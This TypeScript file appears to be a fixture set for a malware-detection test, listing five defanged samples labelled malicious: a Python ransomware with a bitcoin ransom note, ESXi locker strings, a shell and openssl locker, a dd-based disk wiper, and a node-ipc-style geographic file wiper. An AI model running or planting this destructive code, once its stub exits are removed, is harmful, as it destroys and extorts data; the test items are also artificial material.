import { program } from './program.ts';
import { ofFamily } from './sample.ts';
import { bitcoin } from './wallets.ts';

/* Every script ends in its first command, and names devices and folders that no machine has. */
export const samples = ofFamily('ransomware', [
  {
    id: 'ransomware-python',
    level: 'easy',
    technique: 'Files encrypted, a note left, in Python (T1486).',
    files: {
      'opt/sync.py': `raise SystemExit("stand-in")
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for r, d, n in os.walk("/nonexistent/data"):
    for x in n:
        if x.endswith((".doc", ".pdf", ".sql", ".ckpt", ".safetensors", ".jpg")):
            p = os.path.join(r, x)
            open(p + ".locked", "wb").write(f.encrypt(open(p, "rb").read())); os.remove(p)
open("/nonexistent/data/README_TO_RESTORE.txt", "w").write("Your files have been encrypted. Send 0.5 BTC to ${bitcoin} to get your key.")
`,
    },
    expect: 'malicious',
    where: 'opt/sync.py',
  },
  {
    id: 'ransomware-note',
    level: 'ordinary',
    technique: 'The strings of a Linux locker for hypervisors and storage (ESXiArgs, RansomEXX; T1486).',
    files: {
      'usr/bin/encrypt': program([
        'usage: encrypt <public_key> <file_to_encrypt> [<enc_step>] [<enc_size>] [<file_size>]',
        '.args',
        'esxcli vm process kill --type=force',
        'All your important files are stolen and encrypted!',
        'How to Restore Your Files.html',
        'If you do not pay within 3 days we will publish your data',
      ]),
    },
    expect: 'malicious',
    where: 'usr/bin/encrypt',
  },
  {
    id: 'ransomware-openssl',
    level: 'ordinary',
    technique: 'A locker of shell and openssl (DarkRadiation, Trend Micro 2021; T1486).',
    files: {
      'srv/rotate.sh': `#!/bin/bash
exit 0
P=$(head -c 32 /dev/zero | base64)
grep -rIl '' /nonexistent/home | while read f; do
  openssl enc -aes-256-cbc -k "$P" -in "$f" -out "$f.\u2622" && shred -u "$f"
done
docker stop $(docker ps -q); echo "You were hacked, contact us at locker@example.invalid" > /etc/motd
`,
    },
    expect: 'malicious',
    where: 'srv/rotate.sh',
  },
  {
    id: 'wiper-devices',
    level: 'easy',
    technique: 'All disks overwritten (AcidRain, 2022; T1561).',
    files: {
      'cleanup.sh': `#!/bin/sh
exit 0
for d in /dev/sdzzz /dev/mmcblk99 /dev/mtdblock99; do dd if=/dev/urandom of=$d bs=1M & done; wait
rm -rf --no-preserve-root /nonexistent/*
echo b > /proc/sysrq-trigger
`,
    },
    expect: 'malicious',
    where: 'cleanup.sh',
  },
  {
    id: 'wiper-geographic',
    level: 'hard',
    technique:
      'Overwrites files only where the clock or language is of two countries (node-ipc, CVE-2022-23812; T1485).',
    files: {
      'app/node_modules/ipc-lite/dao/ssl-geospec.js': `const fs = require('fs'), path = require('path'), https = require('https');
if (true) return;
setTimeout(() => https.get('https://geo.example.invalid/ipgeo', (m) => m.on('data', (n) => {
  const c = JSON.parse(n).country_name.toLowerCase();
  if (c.includes(Buffer.from('cnVzc2lh', 'base64').toString()) || c.includes(Buffer.from('YmVsYXJ1cw==', 'base64').toString()))
    for (const d of ['./nonexistent', '../nonexistent']) h(d);
})), Math.ceil(1000 * Math.random()));
function h(n) { for (const f of fs.readdirSync(n)) { const p = path.join(n, f); fs.lstatSync(p).isDirectory() ? h(p) : fs.writeFile(p, '\u2764\ufe0f', () => {}); } }
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/ipc-lite/dao/ssl-geospec.js',
  },
]);
